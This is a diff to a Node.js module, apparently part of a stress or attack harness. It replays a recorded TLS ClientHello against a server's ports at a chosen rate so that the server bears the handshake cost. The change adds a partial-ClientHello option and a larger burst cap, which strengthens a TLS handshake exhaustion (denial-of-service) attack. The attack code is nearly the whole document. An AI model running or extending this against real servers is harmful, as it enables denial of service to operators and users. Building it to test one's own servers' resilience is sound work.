@@ -1,5 +1,5 @@
 // ClientHellos recorded once and said again: the server does the arithmetic of a handshake for each, the attacker none. With `stay` the
-// connections are kept, otherwise they are gone at once.
+// connections are kept, otherwise they are gone at once; with `bytes` only so much of a ClientHello is said.
 import { createServer } from 'node:net';
 import { connect } from 'node:tls';
 
@@ -19,13 +19,13 @@ export function record() {
   });
 }
 
-export async function attack({ ports, until, perSecond = 1_000, stay = false, most = 4_000 }) {
-  const hello = await record();
+export async function attack({ ports, until, perSecond = 1_000, stay = false, most = 4_000, bytes }) {
+  const hello = (await record()).subarray(0, bytes);
   const said = { hellos: 0 };
   const kept = [];
   const began = performance.now();
   while (!isOver(until)) {
-    const due = Math.min(((performance.now() - began) / 1000) * perSecond - said.hellos, 50);
+    const due = Math.min(((performance.now() - began) / 1000) * perSecond - said.hellos, 200);
     for (let i = 0; i < due; ++i) {
       ++said.hellos;
       open(ports.output).then((socket) => {
